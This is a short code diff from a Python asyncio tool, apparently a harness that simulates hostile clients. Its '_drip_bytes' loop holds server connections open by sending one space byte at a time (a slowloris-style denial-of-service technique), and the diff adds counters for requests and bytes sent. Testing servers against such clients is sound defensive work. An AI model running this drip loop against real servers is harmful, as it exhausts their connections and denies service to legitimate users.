@@ -71,11 +71,14 @@ async def _drip_bytes(hostile: Hostile, beginning: bytes) -> None:
     while True:
         try:
             reader, writer = await asyncio.open_connection(parts.hostname, parts.port or 80)
+            hostile.sent["requests"] += 1
             try:
                 writer.write(beginning)
+                hostile.sent["bytes"] += len(beginning)
                 answer = asyncio.create_task(reader.read(4096))
                 while not answer.done():
                     writer.write(b" ")
+                    hostile.sent["bytes"] += 1
                     await asyncio.wait([answer], timeout=DRIP_SECONDS)
                 head = answer.result()
                 hostile.told[head[9:12].decode() if head else "hung up"] += 1
